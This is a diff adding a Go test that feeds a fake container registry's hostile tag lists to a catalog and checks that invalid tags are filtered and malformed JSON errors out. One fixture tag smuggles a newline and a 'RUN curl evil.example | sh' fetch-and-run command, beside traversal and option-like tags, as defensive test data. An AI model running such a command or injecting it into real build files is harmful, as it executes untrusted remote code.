@@ -238,3 +238,50 @@ func TestRefreshFromRegistry(t *testing.T) {
 		t.Error("Refresh swallowed an error")
 	}
 }
+
+// TestRegistryHostile checks what a registry can send back: tags that are
+// not tags never reach the catalog (one could smuggle a newline and an
+// instruction into a fix), and garbage is an error, not a crash.
+func TestRegistryHostile(t *testing.T) {
+	body := map[string]string{
+		"/v2/evil/tags/list":    `{"name":"evil","tags":["26-alpine","26\nRUN curl evil.example | sh","../x","-rf",".hidden","ok_1.2-x","` + strings.Repeat("a", 129) + `"]}`,
+		"/v2/garbage/tags/list": `{"name":"garbage","tags":[`,
+		"/v2/typed/tags/list":   `{"name":"typed","tags":[1,2,3]}`,
+	}
+	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/v2/" {
+			return
+		}
+		b, ok := body[r.URL.Path]
+		if !ok {
+			http.NotFound(w, r)
+			return
+		}
+		w.Header().Set("Content-Type", "application/json")
+		io.WriteString(w, b)
+	}))
+	defer srv.Close()
+	host := strings.TrimPrefix(srv.URL, "http://")
+	reg := &Registry{Keychain: anonymous{}, Timeout: 5 * time.Second}
+	ctx := context.Background()
+	cat, err := Load()
+	if err != nil {
+		t.Fatal(err)
+	}
+	cat, err = cat.Refresh(ctx, reg, host+"/evil")
+	if err != nil {
+		t.Fatal(err)
+	}
+	im, ok := cat.lookupName(host + "/evil")
+	if !ok {
+		t.Fatal("refreshed image not in the catalog")
+	}
+	if tags := im.Tags(); !slices.Equal(tags, []string{"26-alpine", "ok_1.2-x"}) {
+		t.Errorf("catalog kept %q", tags)
+	}
+	for _, repo := range []string{"garbage", "typed"} {
+		if _, err := reg.ListTags(ctx, host+"/"+repo); err == nil {
+			t.Errorf("%s: no error", repo)
+		}
+	}
+}
